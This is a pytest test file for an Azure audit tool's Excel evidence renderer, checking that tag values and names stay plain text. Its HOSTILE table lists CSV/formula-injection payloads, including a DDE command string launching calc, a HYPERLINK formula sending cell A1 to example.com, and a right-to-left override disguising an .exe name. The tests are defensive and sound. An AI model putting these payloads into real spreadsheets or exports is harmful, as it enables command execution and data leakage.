"""Text stays text: nothing that whoever named a thing in Azure can write becomes a formula or breaks the file."""

from __future__ import annotations

import csv
import os
import shutil
import subprocess
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import workbook_fixture as fixture
from hypothesis import given
from hypothesis import strategies as st

from audit.render import workbook
from audit.render.workbook import cells

at = datetime.fromisoformat
"""Cells know no zone."""

HOSTILE = {
    "=1+1": "=1+1",
    '=HYPERLINK("http://example.com/?"&A1,"click")': '=HYPERLINK("http://example.com/?"&A1,"click")',
    "=cmd|'/c calc'!A1": "=cmd|'/c calc'!A1",
    "+1": "+1",
    "-2+3": "-2+3",
    "@SUM(A1)": "@SUM(A1)",
    "#N/A": "#N/A",
    "'quoted": "'quoted",
    "TRUE": "TRUE",
    "1E5": "1E5",
    "007": "007",
    "2026-11-01": "2026-11-01",
    "\tx": "\tx",
    " padded ": " padded ",
    "two\nlines": "two\nlines",
    "nul\x00bell\x07esc\x1b": "nul[U+0000]bell[U+0007]esc[U+001B]",
    "del\x7f": "del[U+007F]",
    "c1\x85": "c1[U+0085]",
    "user\u202etxt.exe": "user[U+202E]txt.exe",
    "nonchar\uffff": "nonchar[U+FFFF]",
    "<b>&amp;]]>": "<b>&amp;]]>",
    "שלום 日本 👩\u200d💻": "שלום 日本 👩[U+200D]💻",
    "_x0041_": "_x0041_",
}
"""What a tag can hold → what a reader sees."""


def tagged(path: Path, values: list[str]) -> Path:
    tables = fixture.story()
    tables.con.execute("delete from tags")
    for number, value in enumerate(values):
        tables.add("tags", resource_id=f"{fixture.JOBS}/intake", key=f"k{number:03}", value=value, source="job")
    workbook.write(tables.con, fixture.run(), path / "evidence.xlsx")
    return path / "evidence.xlsx"


def tags(path: Path) -> list[Any]:
    sheet = openpyxl.load_workbook(path)["Tags"]
    column = [cell.value for cell in sheet[4]].index("Value")
    return [row[column] for row in sheet.iter_rows(min_row=5)]


def test_hostile_text_is_text(tmp_path: Path) -> None:
    found = tags(tagged(tmp_path, list(HOSTILE)))
    assert len(found) == len(HOSTILE)
    for cell, expected in zip(found, HOSTILE.values(), strict=True):
        assert cell.data_type == "s", cell.value
        assert cell.quotePrefix
        assert cell.hyperlink is None
        assert cell.value.replace("_x005F_", "_") == expected, "the format's escape, which openpyxl leaves alone"


def test_hostile_names_are_text_everywhere(tmp_path: Path) -> None:
    tables = fixture.story()
    evil = "=1+1'!A1\x07"
    job_id = tables.job(evil)
    tables.add("subscriptions", subscription_id="x", name=evil, state=evil, tenant_id=evil)
    tables.verdict(job_id, "fail", reason=evil, subject=evil)
    tables.add("coverage", kind=evil, scope=evil, outcome="gap", reason=evil, detail=evil, rows=0, pages=0)
    tables.con.execute("update controls set title = ?, area = ?", [evil, evil])
    run = fixture.run(run_id=evil, versions={evil: evil}, settings={"required": [evil]}, redaction_key_id=evil)
    workbook.write(tables.con, run, tmp_path / "evidence.xlsx")
    opened = openpyxl.load_workbook(tmp_path / "evidence.xlsx")
    types = {cell.data_type for sheet in opened.worksheets for row in sheet.iter_rows() for cell in row}
    assert types <= {"s", "n", "b", "d"}, "no formula, no error"
    assert sum(cell.value == "=1+1'!A1[U+0007]" for row in opened["Findings"].iter_rows() for cell in row) >= 4


def test_text_that_a_cell_cannot_hold_is_cut_with_a_mark_that_says_where_the_whole_is(tmp_path: Path) -> None:
    tables = fixture.story()
    tables.con.execute("delete from tags")
    values = {"key": "k", "source": "job"}
    row_id = tables.add("tags", resource_id=fixture.JOBS, value="ab" * 30_000, **values)
    workbook.write(tables.con, fixture.run(), tmp_path / "evidence.xlsx")
    (cell,) = tags(tmp_path / "evidence.xlsx")
    assert len(cell.value) == cells.TEXT_LIMIT
    assert cell.value.endswith(
        "[cut: this cell shows the beginning of 60,000 characters. "
        f"The whole text: data/tags.parquet, row_id {row_id}, column value]"
    )


def test_an_escape_takes_its_room(tmp_path: Path) -> None:
    (cell,) = tags(tagged(tmp_path, ["_x0041_" * 4_000]))
    assert cell.value.endswith("column value]"), "the mark is not cut off"
    assert len(cell.value) <= cells.TEXT_LIMIT


@pytest.mark.parametrize("length", [16_383, 16_384, 32_766, 32_767])
def test_text_that_just_fits_is_whole(length: int) -> None:
    assert cells.fitted("x" * length, "there") == "x" * length


@given(st.text(alphabet=st.characters() | st.sampled_from("\x00\x1b\u202e\ud800\uffff👩"), max_size=50))
def test_whatever_is_shown_is_xml_and_fits(text: str) -> None:
    shown = cells.fitted(text * 700, "there")
    assert len(shown.encode("utf-16-le")) <= 2 * cells.TEXT_LIMIT
    assert not cells._NOT_XML.search(shown)
    assert all(character >= " " or character in "\n\t" for character in shown)


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (datetime(2026, 3, 1, 12, 30, tzinfo=UTC), at("2026-03-01T12:30")),
        (datetime(2026, 3, 1, 12, 30, tzinfo=UTC).astimezone(), at("2026-03-01T12:30")),
        (datetime(1, 1, 1, tzinfo=UTC), "0001-01-01T00:00:00Z"),
        (date(1899, 12, 31), "1899-12-31"),
        (date(2026, 1, 2), date(2026, 1, 2)),
        (None, None),
    ],
)
def test_a_time_that_no_cell_can_hold_is_text(value: Any, shown: Any) -> None:
    assert cells.moment(value) == shown


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        (5, 5),
        (Decimal("0.10"), Decimal("0.10")),
        (2**53 + 1, "9007199254740993"),
        (float("nan"), "nan"),
        (float("inf"), "inf"),
        (Decimal("NaN"), "NaN"),
    ],
)
def test_a_number_that_no_cell_can_hold_is_text(value: Any, shown: Any) -> None:
    assert cells.number(value) == shown


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Convert a workbook with LibreOffice: (path, format, folder) → the files made."""
    program = shutil.which("soffice")
    if program is None:
        if os.environ.get("CI"):
            pytest.fail("soffice is missing, and CI must not skip what needs it", pytrace=False)
        pytest.skip("NOT TESTED: LibreOffice (soffice) is not installed")
    profile = tmp_path_factory.mktemp("profile")

    def convert(path: Path, kind: str, folder: Path) -> list[Path]:
        command = [program, f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", kind]
        done = subprocess.run(
            [*command, "--outdir", str(folder), str(path)], capture_output=True, timeout=180, check=False
        )
        assert done.returncode == 0, done.stderr
        return sorted(folder.iterdir())

    return convert


def test_libreoffice_shows_hostile_text_as_it_is(tmp_path: Path, office: Any) -> None:
    path = tagged(tmp_path, list(HOSTILE))
    # the separator, the quote, UTF-8, from line 1, no types, no quoting of all, as shown, no formulas, every sheet
    office(path, "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1", tmp_path / "csv")
    with (tmp_path / "csv" / "evidence-Tags.csv").open(newline="", encoding="utf-8") as file:
        table = list(csv.reader(file))[3:]
    column = table[0].index("Value")
    assert [row[column] for row in table[1:]] == list(HOSTILE.values())


def test_libreoffice_reads_and_writes_the_same_values_and_types(tmp_path: Path, office: Any) -> None:
    workbook.write(fixture.story().con, fixture.run(), tmp_path / "evidence.xlsx")
    (saved,) = office(tmp_path / "evidence.xlsx", "xlsx", tmp_path / "saved")
    ours, theirs = openpyxl.load_workbook(tmp_path / "evidence.xlsx"), openpyxl.load_workbook(saved)
    assert theirs.sheetnames == ours.sheetnames
    compared = 0
    for sheet in ours.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                other = theirs[sheet.title][cell.coordinate]
                if isinstance(cell.value, datetime):
                    assert abs(other.value - cell.value) < timedelta(milliseconds=2)
                elif isinstance(cell.value, float):
                    assert other.value == pytest.approx(cell.value)
                elif isinstance(cell.value, bool):
                    assert other.value in (cell.value, f"={str(cell.value).upper()}()"), "how LibreOffice saves a truth"
                    continue
                else:
                    assert (other.value or "") == (cell.value or ""), (sheet.title, cell.coordinate)
                assert other.data_type != "f"
                compared += cell.value is not None
    assert compared > 500
